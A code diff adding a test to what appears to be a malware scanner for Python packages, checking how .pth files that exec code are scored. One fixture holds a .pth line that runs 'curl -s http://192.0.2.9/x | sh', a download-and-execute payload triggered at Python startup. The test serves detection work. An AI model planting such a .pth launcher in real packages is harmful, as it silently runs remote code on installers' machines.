@@ -7,6 +7,7 @@ import { before, test } from 'node:test';
 import { initAnalysis } from '../../src/analysis/api.ts';
 import { analyzePythonFile } from '../../src/analysis/python-file.ts';
 import type { Finding } from '../../src/model/result.ts';
+import { analyseFiles } from './in-memory-target.ts';
 import codecData from '../../data/python-codecs.json' with { type: 'json' };
 
 before(() => initAnalysis());
@@ -152,4 +153,16 @@ test('bytes decoded with an EBCDIC codec (cp1026) are read as Python reads them,
   assert.ok(rules.includes('exec-decoded-payload'), 'the EBCDIC payload is decoded and rescanned');
   const inner = files.flatMap((file) => file.findings).find((f) => f.rule === 'download-execute');
   assert.equal(inner?.severity, 'critical');
+});
+
+test('a .pth file that execs code written out in a string is judged by what that code does', async () => {
+  const harmless = await analyseFiles({
+    'cov.pth':
+      "import os, sys;exec('if \\'COV_SOURCE\\' in os.environ:\\n try:\\n  from cov.embed import init\\n  init()\\n except Exception:\\n  pass\\n')\n",
+  });
+  assert.equal(harmless.files[0].findings.find((f) => f.rule === 'pth-executes-code')?.severity, 'low');
+  const launcher = await analyseFiles({
+    'cov.pth': "import os;exec('os.system(\\'curl -s http://192.0.2.9/x | sh\\')')\n",
+  });
+  assert.equal(launcher.files[0].findings.find((f) => f.rule === 'pth-executes-code')?.severity, 'high');
 });
